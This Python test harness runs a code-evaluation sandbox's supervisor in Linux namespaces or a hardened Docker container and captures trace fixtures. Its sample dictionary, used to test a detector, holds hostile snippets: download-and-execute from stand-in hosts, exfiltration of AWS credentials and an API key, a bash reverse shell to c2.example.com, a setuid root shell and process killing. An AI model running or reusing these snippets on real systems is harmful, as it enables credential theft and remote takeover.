"""Run sandbox/supervisor.py on the host the way the container runs it, without Docker.

As root: a private mount namespace with tmpfs on /work, /home/sandbox and /tmp (so paths match the image),
optionally a private PID namespace where the supervisor is PID 1 (as with docker `init=False`), then the
supervisor as the unprivileged user `sandboxtest` via setpriv. Used by test_supervisor.py and by
`python tests/execution/supervisor_harness.py capture` to refresh the trace fixtures
(`capture-docker` for the docker_* fixtures, taken in a real container).
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import pwd
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
SANDBOX = REPO / "sandbox"
FIXTURES = Path(__file__).resolve().parent / "fixtures"
USER = "sandboxtest"
PYTHON = "/usr/bin/python3"  # Debian's python3, as in the image; not the virtualenv

sys.path.insert(0, str(REPO))
from codeeval.execution import honeytokens, seccomp


def available() -> str | None:
    """None when the host can run the harness, else the reason it cannot."""
    if os.geteuid() != 0:
        return "needs root (to create namespaces and switch to the test user)"
    for tool in ("strace", "unshare", "setpriv"):
        if shutil.which(tool) is None:
            return f"{tool} is not installed"
    if not Path(PYTHON).exists():
        return f"{PYTHON} is missing"
    try:
        pwd.getpwnam(USER)
    except KeyError:
        return f"user {USER} is missing (useradd -m {USER})"
    return None


def free_port(kind: int = socket.SOCK_STREAM) -> int:
    with socket.socket(socket.AF_INET, kind) as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def run(
    code: str | bytes,
    *,
    language: str = "python",
    mode: str = "run",
    files: dict[str, bytes] | None = None,
    timeout: float = 5.0,
    rlimits: dict[str, int] | None = None,
    tokens: honeytokens.Honeytokens | None = None,
    trace: bool = True,
    pid1: bool = True,
    stdout_cap: int = 1 << 20,
    trace_cap: int = 200_000,
    sink_ports: list[int] | None = None,
    dns_port: int | None = None,
    decoys: bool = True,
    netns: bool = True,
    fake_strace: str | None = None,
) -> dict:
    """Run one sample through the real supervisor and return its CODEEVAL-RESULT object (plus `_job`)."""
    tokens = tokens or honeytokens.generate()
    entry = "sample.py" if language == "python" else "sample.sh"
    if mode == "pytest":
        entry = "test_sample.py"
    all_files = {entry: code.encode() if isinstance(code, str) else code, **(files or {})}
    job = {
        "version": 1,
        "files": {k: base64.b64encode(v).decode() for k, v in all_files.items()},
        "entry": entry, "language": language, "mode": mode, "timeout_s": timeout, "trace": trace,
        "stdout_cap": stdout_cap, "stderr_cap": stdout_cap, "trace_cap": trace_cap,
        "honeytokens": tokens.to_job(), "decoys": decoys,
        "root": "/work", "home": "/home/sandbox", "tmp": "/tmp",
        "rlimits": rlimits or {},
    }
    if not netns:  # sharing the host's network: high ports, since the host's port 53 may be taken
        job["dns_port"] = dns_port if dns_port is not None else free_port(socket.SOCK_DGRAM)
        job["sink_ports"] = sink_ports if sink_ports is not None else [free_port(), free_port()]
    elif dns_port is not None or sink_ports is not None:
        job.update({k: v for k, v in (("dns_port", dns_port), ("sink_ports", sink_ports)) if v is not None})
    user = pwd.getpwnam(USER)
    mounts = " && ".join(
        f"mount -t tmpfs -o size=64m,mode={mode_},uid={uid},gid={user.pw_gid} tmpfs {path}"
        for path, mode_, uid in (
            ("/tmp", "1777", 0), ("/work", "0700", user.pw_uid),
        )
    )
    # /opt first: the sources under /work must be copied before a tmpfs hides them.
    stage = (
        f"mount -t tmpfs -o size=8m,mode=0755 tmpfs /opt && mkdir -p /opt/codeeval/bin && "
        f"cp {SANDBOX}/supervisor.py {SANDBOX}/sitecustomize.py {SANDBOX}/netsink.py {SANDBOX}/machine.py /opt/codeeval/ && "
    )
    path = "/usr/local/bin:/usr/bin:/bin"
    if fake_strace is not None:  # a stand-in strace first on PATH (e.g. one that fails like a ptrace refusal)
        stage += f"printf '%s' {shlex.quote(fake_strace)} > /opt/codeeval/bin/strace && chmod 755 /opt/codeeval/bin/strace && "
        path = "/opt/codeeval/bin:" + path
    network = ""
    if netns:  # like docker network_mode=none: only lo, the contract's sysctl, resolv.conf -> 127.0.0.1
        network = (
            "ip link set lo up && sysctl -qw net.ipv4.ip_unprivileged_port_start=0 && "
            "echo 'nameserver 127.0.0.1' > /tmp/.resolv.conf && mount --bind /tmp/.resolv.conf /etc/resolv.conf && "
        )
    script = (
        f"{stage}{mounts} && {network}mkdir -p /home/sandbox && mount -t tmpfs -o size=16m,mode=0700,uid={user.pw_uid},"
        f"gid={user.pw_gid} tmpfs /home/sandbox && "
        f"exec setpriv --reuid={user.pw_uid} --regid={user.pw_gid} --init-groups "
        f"env -i PATH={path} HOME=/home/sandbox {PYTHON} -I /opt/codeeval/supervisor.py"
    )
    cmd = ["unshare", "--mount", "--propagation", "private"] + (["--net"] if netns else [])
    if pid1:
        cmd += ["--pid", "--fork", "--mount-proc"]
    else:
        cmd += ["--fork"]
    cmd += ["sh", "-c", script]
    proc = subprocess.run(cmd, check=False, input=json.dumps(job).encode(), capture_output=True, timeout=timeout + 30)
    out = proc.stdout.decode("utf-8", "replace")
    line = next((ln for ln in reversed(out.splitlines()) if ln.startswith("CODEEVAL-RESULT ")), None)
    if line is None:
        raise RuntimeError(f"no result line (rc={proc.returncode}): {out[-2000:]} {proc.stderr.decode()[-2000:]}")
    result = json.loads(line[len("CODEEVAL-RESULT "):])
    result["_job"] = {k: v for k, v in job.items() if k != "files"}
    result["_sources"] = [v.decode("utf-8", "replace") for v in all_files.values()]
    return result


def run_docker(code: str, *, language: str = "python", timeout: float = 4.0, init: bool = False,
               image: str = "codeeval-sandbox:latest", tokens: honeytokens.Honeytokens | None = None) -> dict:
    """The same job through `docker run` with the contract's hardening and this checkout's supervisor
    bind-mounted over the image's copy (for fixtures from a real container; init=False: supervisor is PID 1)."""
    tokens = tokens or honeytokens.generate()
    entry = "sample.py" if language == "python" else "sample.sh"
    job = {"version": 1, "files": {entry: base64.b64encode(code.encode()).decode()}, "entry": entry,
           "language": language, "mode": "run", "timeout_s": timeout, "trace": True, "stdout_cap": 65536,
           "stderr_cap": 65536, "trace_cap": 20_000, "honeytokens": tokens.to_job(), "decoys": True}
    tmpfs = "rw,nosuid,nodev,size=64m"
    cmd = [
        "docker", "run", "--rm", "-i", "--network", "none", "--read-only",
        "--tmpfs", f"/tmp:{tmpfs},mode=1777", "--tmpfs", f"/work:{tmpfs},uid=10001,gid=10001,mode=0700",
        "--tmpfs", f"/home/sandbox:{tmpfs},uid=10001,gid=10001,mode=0700",
        "--cap-drop", "ALL", "--security-opt", "no-new-privileges", "--security-opt", f"seccomp={_seccomp_file()}",
        "--user", "10001:10001",
        "--pids-limit", "128", "--memory", "256m", "--memory-swap", "256m", "--cpus", "1",
        "--ulimit", "nofile=256:256", "--ulimit", f"fsize={64 << 20}:{64 << 20}", "--ulimit", "core=0:0",
        "--sysctl", "net.ipv4.ip_unprivileged_port_start=0", "--dns", "127.0.0.1", "-e", "HOME=/home/sandbox",
        "-w", "/work", "-v", f"{SANDBOX}/supervisor.py:/opt/codeeval/supervisor.py:ro",
        "-v", f"{SANDBOX}/sitecustomize.py:/opt/codeeval/sitecustomize.py:ro",
        "-v", f"{SANDBOX}/netsink.py:/opt/codeeval/netsink.py:ro", "-v", f"{SANDBOX}/machine.py:/opt/codeeval/machine.py:ro",
        *(["--init"] if init else []),
        image, "python3", "-I", "/opt/codeeval/supervisor.py",
    ]
    proc = subprocess.run(cmd, input=json.dumps(job).encode(), capture_output=True, timeout=timeout + 60, check=False)
    out = proc.stdout.decode("utf-8", "replace")
    if "CODEEVAL-RESULT " not in out:
        raise RuntimeError(f"no result line (rc={proc.returncode}): {proc.stderr.decode()[-2000:]}")
    result = json.loads(out.split("CODEEVAL-RESULT ", 1)[1])
    result["_job"] = {"honeytokens": tokens.to_job(), "runner": f"docker run {image}, supervisor as PID {'>1' if init else 1}"}
    result["_sources"] = [code]
    return result


def _seccomp_file() -> str:
    """The sandbox's seccomp profile as a file (the docker CLI takes a path; the API, as docker.py uses, the text)."""
    path = Path(tempfile.gettempdir()) / f"codeeval-seccomp-{os.getuid()}.json"
    path.write_text(seccomp.profile_text())
    return str(path)


def save_fixture(name: str, result: dict) -> Path:
    FIXTURES.mkdir(parents=True, exist_ok=True)
    path = FIXTURES / f"{name}.json.gz"
    with gzip.open(path, "wt", encoding="utf-8") as fh:
        json.dump(result, fh)
    return path


def load_fixture(name: str) -> dict:
    with gzip.open(FIXTURES / f"{name}.json.gz", "rt", encoding="utf-8") as fh:
        return json.load(fh)


def tokens_of(result: dict) -> honeytokens.Honeytokens:
    return honeytokens.from_job(result["_job"]["honeytokens"])


# Samples beyond the shared corpus, for behaviours the corpus does not show (name -> code, language, expected).
EXTRA = {
    "download_execute_file": ("""
import os, stat, subprocess, urllib.request
body = urllib.request.urlopen("http://updates.example.com/install.sh", timeout=3).read()
with open("/tmp/install.sh", "wb") as fh:
    fh.write(body)
os.chmod("/tmp/install.sh", 0o755)
subprocess.run(["/tmp/install.sh"])
""", "python", "download_execute"),
    "download_exec_in_memory": ("""
import urllib.request
exec(urllib.request.urlopen("http://cdn.example.net/stage2.py", timeout=3).read())
""", "python", "download_execute"),
    "http_exfiltration": ("""
import os, base64, urllib.request
data = base64.b64encode(open(os.path.expanduser("~/.aws/credentials"), "rb").read())
urllib.request.urlopen(urllib.request.Request("http://collector.example.org/u", data=data), timeout=3).read()
""", "python", "exfiltration"),
    "env_key_exfiltration": ("""
import os, socket
key = os.environ["OPENAI_API_KEY"]
s = socket.create_connection(("paste.example.com", 443), timeout=3)
s.sendall(key.encode())
s.close()
""", "python", "exfiltration"),
    "kill_decoy": ("""
import os, signal
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            name = open(f"/proc/{pid}/comm").read().strip()
        except OSError:
            continue
        if name in ("sshd", "dockerd"):
            os.kill(int(pid), signal.SIGTERM)
""", "python", "process.tamper"),
    "setuid_bit": ("""
import os, shutil
shutil.copy("/bin/sh", "/tmp/rootsh")
os.chmod("/tmp/rootsh", 0o4755)
""", "python", "privilege.escalation"),
    "unshare_mount": ("""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print(libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
print(libc.mount(b"none", b"/mnt", b"tmpfs", 0, None), ctypes.get_errno())
""", "python", "container.escape_attempt"),
    "huge_mmap": ("""
import mmap
try:
    m = mmap.mmap(-1, 8 << 30)
except OSError as exc:
    print(exc)
""", "python", "resource.memory"),
    "shell_spawn": ("""
import subprocess
print(subprocess.run("echo hello | tr a-z A-Z", shell=True, capture_output=True, text=True).stdout)
""", "python", "process.spawn_shell"),
    "bash_reverse_shell": ("""
bash -c 'bash -i >& /dev/tcp/c2.example.com/4444 0>&1' 2>/dev/null
""", "bash", "reverse_shell"),
    "benign_stdlib_and_os_release": ("""
import json, os, platform, tempfile, csv, sqlite3
print(open("/etc/os-release").read().splitlines()[0])
print(open("/proc/self/status").read().splitlines()[0])
with tempfile.NamedTemporaryFile("w", suffix=".csv", delete=False) as fh:
    csv.writer(fh).writerows([[1, 2], [3, 4]])
db = sqlite3.connect("/work/data.db")
db.execute("create table t (a, b)")
db.executemany("insert into t values (?, ?)", [(1, 2), (3, 4)])
db.commit()
print(sum(a for a, b in db.execute("select a, b from t")), platform.python_version(), json.dumps({"ok": True}))
os.remove(fh.name)
""", "python", "clean"),
    "benign_threads_and_eval": ("""
import threading, collections
Point = collections.namedtuple("Point", "x y")
out = []
threads = [threading.Thread(target=lambda i=i: out.append(Point(i, eval("i * 2")))) for i in range(4)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print(sorted(out))
""", "python", "clean"),

    "benign_local_http": ("""
import http.server, threading, urllib.request
srv = http.server.HTTPServer(("127.0.0.1", 8765), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=srv.serve_forever, daemon=True).start()
print(urllib.request.urlopen("http://127.0.0.1:8765/").status)
srv.shutdown()
""", "python", "clean"),
    "benign_mp_pool": ("""
from multiprocessing import Pool
def sq(x): return x * x
if __name__ == "__main__":
    with Pool(2) as p:
        print(sum(p.map(sq, range(100))))
""", "python", "clean"),
    "benign_files_logging": ("""
import argparse, logging, pathlib, getpass, pwd, os, platform, shutil, tempfile
logging.basicConfig(filename="app.log", level=logging.INFO)
logging.info("start %s %s", getpass.getuser(), platform.system())
p = pathlib.Path("data"); p.mkdir(exist_ok=True)
for i in range(5): (p / f"f{i}.txt").write_text(str(i))
print(sorted(x.name for x in p.glob("*.txt")), pwd.getpwuid(os.getuid()).pw_name)
d = tempfile.mkdtemp(); shutil.make_archive(os.path.join(d, "a"), "zip", "data"); shutil.rmtree(d); shutil.rmtree("data")
home_cfg = pathlib.Path.home() / ".config" / "myapp"; home_cfg.mkdir(parents=True, exist_ok=True); (home_cfg / "c.json").write_text("{}")
""", "python", "clean"),
    "benign_bash_tools": ("""
set -e
tmp=$(mktemp -d)
printf 'b\\na\\nc\\n' > "$tmp/in.txt"
sort "$tmp/in.txt" | uniq > out.txt
sed -i 's/a/A/' out.txt
find . -name '*.txt' | wc -l
grep -c . out.txt
awk '{print toupper($0)}' out.txt
ls -la / > /dev/null
date +%Y > /dev/null
rm -rf "$tmp"
""", "bash", "clean"),
    "benign_subprocess_tools": ("""
import subprocess, shutil, sys
print(subprocess.check_output(["ls", "-la", "/"], text=True).count("\\n") > 3)
print(subprocess.run(["date"], capture_output=True).returncode, shutil.which("python3"))
print(subprocess.run([sys.executable, "-c", "import json; print(json.dumps([1]))"], capture_output=True, text=True).stdout)
""", "python", "clean"),
    "benign_asyncio_local": ("""
import asyncio
async def handle(r, w):
    w.write(await r.read(5)); await w.drain(); w.close()
async def main():
    srv = await asyncio.start_server(handle, "127.0.0.1", 9999)
    r, w = await asyncio.open_connection("127.0.0.1", 9999)
    w.write(b"hello"); await w.drain(); print(await r.read(5)); w.close(); srv.close()
asyncio.run(main())
""", "python", "clean"),
    "benign_dataclass_typing": ("""
from dataclasses import dataclass, field
from typing import NamedTuple
import enum, re, statistics, decimal, fractions, datetime, zoneinfo
@dataclass(frozen=True)
class P:
    x: int
    y: list = field(default_factory=list)
class C(enum.Enum):
    A = 1
class T(NamedTuple):
    a: int
print(P(1), C.A, T(2), re.sub(r"\\d", "#", "a1b2"), statistics.mean([1, 2, 3]), datetime.datetime.now(datetime.timezone.utc).year > 2000)
""", "python", "clean"),
    "benign_pytest_mode": ("""
import pytest
from solution import add

@pytest.mark.functionality
def test_add():
    assert add(1, 2) == 3

@pytest.mark.security
def test_wrong():
    assert add(1, 1) == 3
""", "python", "clean", {"mode": "pytest", "files": {"solution.py": b"def add(a, b):\n    return a + b\n"}}),
}


def capture(only: str | None = None) -> None:
    """Refresh the fixtures from the corpus next to this file (benign/, hostile/) and EXTRA."""
    here = Path(__file__).resolve().parent
    timeouts = {"cpu_spin": 2.0, "stdout_flood": 2.0, "fork_bomb": 3.0, "memory_bomb": 3.0, "disk_fill": 4.0,
                "daemon_outlives_parent": 3.0}
    limits = {"fork_bomb": {"nproc": 60}, "memory_bomb": {"as": 512 << 20}, "disk_fill": {"fsize": 8 << 20}}
    for folder in ("benign", "hostile"):
        for src in sorted((here / folder).glob("*")):
            if src.suffix not in (".py", ".sh"):
                continue
            name = src.stem
            if only and only not in name:
                continue
            result = run(src.read_text(), language="python" if src.suffix == ".py" else "bash",
                         timeout=timeouts.get(name, 4.0), rlimits=limits.get(name),
                         stdout_cap=64 << 10, trace_cap=20_000)
            print(name, len(result["trace"]), "lines", save_fixture(f"{folder}_{name}", result).stat().st_size, "bytes")
    for name, (code, language, expected, *options) in EXTRA.items():
        if only and only not in name:
            continue
        result = run(f"# expect: {expected}\n" + code.lstrip("\n"), language=language, timeout=20.0,
                     stdout_cap=64 << 10, trace_cap=20_000, **(options[0] if options else {}))
        print(name, len(result["trace"]), "lines", save_fixture(f"extra_{name}", result).stat().st_size, "bytes")


def capture_docker(only: str | None = None) -> None:
    """Fixtures of the corpus run in a real container (needs the daemon and the sandbox image)."""
    here = Path(__file__).resolve().parent
    timeouts = {"cpu_spin": 2.0, "stdout_flood": 2.0, "fork_bomb": 3.0, "daemon_outlives_parent": 3.0}
    for folder in ("benign", "hostile"):
        for src in sorted((here / folder).glob("*")):
            if src.suffix not in (".py", ".sh") or (only and only not in src.stem):
                continue
            result = run_docker(src.read_text(), language="python" if src.suffix == ".py" else "bash",
                                timeout=timeouts.get(src.stem, 4.0))
            print(src.stem, len(result["trace"]), "lines", save_fixture(f"docker_{folder}_{src.stem}", result))


if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] == "capture":
        capture(*sys.argv[2:])
    elif len(sys.argv) > 1 and sys.argv[1] == "capture-docker":
        capture_docker(*sys.argv[2:])
